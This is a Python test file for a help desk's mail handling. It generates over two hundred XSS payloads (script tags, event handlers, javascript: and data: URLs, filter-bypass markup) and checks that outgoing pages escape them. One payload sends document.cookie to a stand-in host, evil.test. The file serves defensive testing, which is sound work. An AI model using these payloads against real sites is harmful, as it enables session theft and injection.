"""T09, markup that runs: whatever HTML comes in, the letters that pass it on hold our own markup and nothing else.

What an agent reads is the text of a mail, escaped into a page of ours. Each attack below is sent as an HTML mail and as
plain text, and the pages that come of it are parsed as a mail program parses them.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

from tests.security.desk import ANNA, EVE, IVAN, Desk, mail, opened, page, reply

ALERTS = ("alert(1)", "location='http://evil.test/'+document.cookie")
TAGS = (
    "script", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "video",
    "audio", "source", "marquee", "details", "body", "html", "base", "meta", "link", "style", "template", "noscript",
    "keygen", "isindex", "applet", "frameset", "xml", "dialog", "portal", "a", "img", "div", "table",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerover")
URLS = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "&#106;avascript:{}",
    "&#x6A;avascript:{}", "javascript&colon;{}", "\x01javascript:{}", "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "//evil.test/{}", "feed:javascript:{}",
)  # fmt: skip
WHOLE = (
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script\x00>{}</script>",
    "<script/xss src=data:,{}></script>",
    "<!--><img src=x onerror={}>-->",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<svg><![CDATA[<img src=x onerror={}>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "</title><script>{}</script>",
    "</blockquote></div></body></html><script>{}</script>",
    "]]><script>{}</script>",
    "{{{{ {} }}}}<script>{}</script>",
    '<img """><script>{}</script>">',
    "<a href=`javascript:{}`>",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
)


def attacks() -> list[str]:
    """More than two hundred, by families: elements, handlers, addresses, and broken markup as a whole."""
    found = [f"<{tag} {handler}={ALERTS[0]}>x</{tag}>" for tag, handler in product(TAGS, HANDLERS[:3])]
    found += [f"<img src=x {handler}='{alert}'>" for handler, alert in product(HANDLERS, ALERTS)]
    found += [f'<a href="{url.format(alert)}">x</a>' for url, alert in product(URLS, ALERTS)]
    found += [f'<{tag} src="{url.format(ALERTS[0])}">' for tag, url in product(("iframe", "img", "embed"), URLS)]
    found += [f'<div style="background:url({url.format(ALERTS[0])})">x</div>' for url in URLS]
    found += [one.replace("{}", alert).replace("{{{{", "{{").replace("}}}}", "}}") for one in WHOLE for alert in ALERTS]
    return found


# What our own page is made of, and the attributes that it sets.
OURS = set("html head meta title style body div p ul ol li blockquote br code table tr th td img b a".split())
ATTRIBUTES = {
    "class",
    "style",
    "lang",
    "charset",
    "name",
    "content",
    "src",
    "alt",
    "role",
    "aria-label",
    "dir",
    "scope",
    "href",
}
# The block of styles in the head, which speaks of these alone.
CLASSES = {"page", "line", "urgent", "bar"}
(STYLES,) = re.findall(
    "<style>(.*?)</style>", (Path(__file__).parents[2] / "templates/base.html").read_text("utf-8"), re.DOTALL
)
# The only places that a link of ours leads to: a mail with a command, to the desk.
LINK = "mailto:support"
# What Outlook alone reads: a table about the whole.
COMMENTS = {
    '[if mso]><table role="presentation" width="600" cellpadding="0" cellspacing="0"><tr><td><![endif]',
    "[if mso]></td></tr></table><![endif]",
}


class Judge(HTMLParser):
    """Collects what does not belong into a page of ours."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.styled, self.within = False, ""

    def handle_data(self, data: str) -> None:
        if self.within == "style" and data.replace("\r\n", "\n") != STYLES:
            self.foreign.append(f"style {data}")

    def handle_endtag(self, tag: str) -> None:
        self.within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in OURS or (tag == "style" and (attrs or self.styled)):
            self.foreign.append(tag)
        self.styled = self.styled or tag == "style"
        self.within = tag
        for name, value in attrs:
            if name not in ATTRIBUTES or (name == "src" and not (value or "").startswith("cid:")):
                self.foreign.append(f"{tag} {name}={value}")
            if name == "class" and value not in CLASSES:
                self.foreign.append(f"{tag} {name}={value}")
            if name == "href" and not (value or "").startswith(LINK):
                self.foreign.append(f"{tag} {name}={value}")
            if name == "style" and "url" in (value or ""):
                self.foreign.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        if data not in COMMENTS:
            self.foreign.append(f"comment {data}")


def foreign(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.foreign


def as_html(sender: str, subject: str, html: str) -> bytes:
    return mail(sender, subject, html).replace(b"text/plain", b"text/html", 1)


def test_two_hundred_attacks_stay_words_in_every_letter(open_desk: Desk) -> None:
    strings = attacks()
    assert len(set(strings)) >= 200
    for n in range(0, len(strings), 10):
        ten = "\n<br>\n".join(strings[n : n + 10])
        open_desk.take_one(as_html(f"eve{n}@evil.test", f"Attack {n}", f"<p>Hello</p>{ten}"))
        open_desk.take_one(mail(f"mallory{n}@evil.test", f"Attack {n}", ten))
    letters = open_desk.send()
    assert len([letter for letter in letters if letter.event == "notify"]) == 2 * -(-len(strings) // 10)
    assert {letter.recipients: found for letter in letters if (found := foreign(page(letter)))} == {}


def test_attacks_in_names_subjects_and_file_names_stay_words(open_desk: Desk) -> None:
    for n, attack in enumerate(attacks()[::9]):
        word = "=?utf-8?q?" + "".join(f"={byte:02X}" for byte in attack.encode()) + "?="
        head = mail(f"{word} <eve{n}@evil.test>", word, "").decode()
        head = head.replace("text/plain; charset=utf-8", "multipart/mixed; boundary=xx")
        file = (
            f'--xx\r\nContent-Type: image/png; name="{word}"\r\nContent-ID: <"onload=alert(1)>\r\n\r\nx\r\n--xx--\r\n'
        )
        open_desk.take_one((head + "--xx\r\n\r\nHello\r\n" + file).encode())
    letters = open_desk.send()
    assert letters
    assert {letter.recipients: found for letter in letters if (found := foreign(page(letter)))} == {}


def test_attacks_of_a_requester_stay_words_in_answers_and_results(open_desk: Desk) -> None:
    open_desk.open(ANNA, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
    notified = next(letter for letter in open_desk.sent if letter.event == "notify")
    open_desk.take_one(reply(notified, IVAN, "Do you mean <script>alert(1)</script>?"))
    open_desk.take_one(reply(notified, IVAN, "#close <script>alert(1)</script>"))
    open_desk.take_one(mail(EVE, "[##100001##]<b>", "<script>alert(1)</script>", "References: <x@y>"))
    letters = open_desk.send()
    assert {"reply", "result"} <= {letter.event for letter in letters}
    assert {letter.event: found for letter in letters if (found := foreign(page(letter)))} == {}


def test_file_that_would_run_in_a_browser_travels_as_a_plain_file(open_desk: Desk) -> None:
    head = mail(EVE, "Files", "").decode().replace("text/plain; charset=utf-8", "multipart/mixed; boundary=xx")
    types = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript")
    files = "".join(
        f"--xx\r\nContent-Type: {one}; name=a{n}\r\nContent-Disposition: attachment; filename=a{n}\r\n\r\n"
        "<script>alert(1)</script>\r\n"
        for n, one in enumerate(types)
    )
    open_desk.take_one(f"{head}--xx\r\n\r\nHello\r\n{files}--xx--\r\n".encode())
    notified = next(letter for letter in open_desk.send() if letter.event == "notify")
    sent = {part.get_content_type() for part in opened(notified).iter_attachments()}
    assert sent == {"application/octet-stream"}
